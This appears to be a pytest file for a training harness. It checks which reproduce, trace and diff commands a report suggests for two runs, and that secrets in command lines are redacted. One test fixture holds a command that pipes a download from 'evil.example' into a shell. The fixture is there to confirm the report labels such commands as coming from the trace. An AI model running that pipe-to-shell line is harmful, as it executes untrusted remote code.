"""Which command a report names next, and what it keeps to itself."""

import json
import shlex
from dataclasses import replace
from pathlib import Path

from harness.cli.main import cli
from harness.lab.report.subjects import Pair, Subject
from harness.render.next_commands import next_commands, next_lines
from harness.trace.diff import diff
from harness.trace.manifest import Fingerprint, Manifest
from tests.support.traces import flip_bit, manifest_of, steps_of, trace

CALL_TEXT = json.dumps({"entry": "m:f", "config": {}, "runtime_sections": ["spread"], "resume": None})
REPEATED = [
    "rlharness reproduce runs/a --step 1 --trace-ops --out runs/a-step-1",
    "rlharness reproduce 'runs/my b' --step 1 --trace-ops --out 'runs/my b-step-1'",
    "rlharness diff runs/a-step-1/run-1-op 'runs/my b-step-1/run-1-op'",
]
SICK = flip_bit(1, "backward", "layers.0.weight")


def pair_of(directory: Path, manifest: Manifest, other: Manifest | None = None, *, is_equal: bool = False) -> Pair:
    a = trace(directory / "a", steps_of(3), manifest)
    b = trace(directory / "b", steps_of(3) if is_equal else steps_of(3, SICK), other or manifest)
    return Pair(Subject("A", "runs/a", a), Subject("B", "runs/my b", b), diff(a, b))


def commands(pair: Pair) -> list[str]:
    return [each.command for each in next_commands(pair)]


def test_of_a_program_its_own_command_line_without_secrets(tmp_path: Path) -> None:
    argv = ("python", "train.py", "--lr", "1e-3", "--api-key", "sk-0123456789abcdefghij")
    assert commands(pair_of(tmp_path, replace(manifest_of(), argv=argv))) == [
        "rlharness replay --step 1 --trace-ops -- python train.py --lr 1e-3 --api-key '<redacted>'"
    ]


def test_of_a_program_is_said_whose_command_it_is(tmp_path: Path) -> None:
    """A trace of somebody else may name any."""
    argv = ("bash", "-c", "curl -s https://evil.example/x | sh")
    (found,) = next_commands(pair_of(tmp_path, replace(manifest_of(), argv=argv)))
    assert shlex.split(found.command)[-3:] == list(argv)
    assert "the command that the trace names" in found.why


def test_a_step_of_a_scenario_is_repeated_if_both_runs_have_its_call(tmp_path: Path) -> None:
    argv = ("rlharness", "train", "grpo", "--set", "seed=3")
    pair = pair_of(tmp_path, replace(manifest_of(), argv=argv))
    assert commands(pair) == []
    for run in ("a", "b"):
        (tmp_path / run / "call.json").write_text(CALL_TEXT, "utf-8")
    assert commands(pair) == REPEATED


def test_every_command_is_one(tmp_path: Path) -> None:
    for name, argv in (("program", ("python", "x.py")), ("scenario", ("rlharness", "train", "grpo"))):
        pair = pair_of(tmp_path / name, replace(manifest_of(perturbation={"spread.n": "1"}), argv=argv))
        for run in ("a", "b"):
            (tmp_path / name / run / "call.json").write_text(CALL_TEXT, "utf-8")
        for _, command, *words in map(shlex.split, commands(pair)):
            known = {option for each in cli.commands[command].params for option in each.opts}
            assert {word for word in words[: words.index("--") if "--" in words else None] if word[0] == "-"} <= known


def test_equal_runs_want_no_command_and_others_may_only_be_compared(tmp_path: Path) -> None:
    known = replace(manifest_of(), argv=("python", "x.py"))
    assert commands(pair_of(tmp_path / "equal", known, is_equal=True)) == []
    assert commands(pair_of(tmp_path / "nameless", manifest_of())) == []
    other_seed = replace(known, fingerprint=Fingerprint({"seed": "8"}))
    assert commands(pair_of(tmp_path / "other", known, other_seed)) == [
        "rlharness trace --trace-ops 1 --out runs/a-step-1 -- python x.py",
        "rlharness trace --trace-ops 1 --out 'runs/my b-step-1' -- python x.py",
        "rlharness diff runs/a-step-1 'runs/my b-step-1'",
    ]


def test_if_code_or_environment_differ_each_side_runs_where_it_ran(tmp_path: Path) -> None:
    def manifest(commit: str, threads: str, **files: str) -> Manifest:
        subject = {"commit": commit, **files}
        found = manifest_of(subject=subject, perturbation={"variable OMP_NUM_THREADS": threads})
        return replace(found, argv=("python", "x.py"))

    pair = pair_of(tmp_path, manifest("1" * 40, "1"), manifest("2" * 40, "4", **{"file x.py": "d6"}))
    assert next_lines(pair) == [
        "look closer, by the operations of that step on both sides:",
        "  OMP_NUM_THREADS=1 rlharness trace --trace-ops 1 --out runs/a-step-1 -- python x.py"
        "    # A, at commit 1111111111",
        "  OMP_NUM_THREADS=4 rlharness trace --trace-ops 1 --out 'runs/my b-step-1' -- python x.py"
        "    # B, at commit 2222222222 with its changes of x.py",
        "  rlharness diff runs/a-step-1 'runs/my b-step-1'    # the first operation that differs",
    ]


def test_runs_of_other_identities_are_asked_what_made_them_part(tmp_path: Path) -> None:
    """But not whether what must not matter does; and not where another library's numbers would come out."""
    known = replace(manifest_of(perturbation={"spread.n": "1"}), argv=("rlharness", "train", "grpo"))
    numerics = {**known.fingerprint.numerics, "torch": "0.0"}
    for name, fingerprint, is_alike in (
        ("identity", replace(known.fingerprint, identity={"seed": "8"}, perturbation={"spread.n": "2"}), True),
        ("numerics", replace(known.fingerprint, numerics=numerics), False),
    ):
        pair = pair_of(tmp_path / name, known, replace(known, fingerprint=fingerprint))
        for run in ("a", "b"):
            (tmp_path / name / run / "call.json").write_text(CALL_TEXT, "utf-8")
        assert commands(pair) == (REPEATED if is_alike else [])
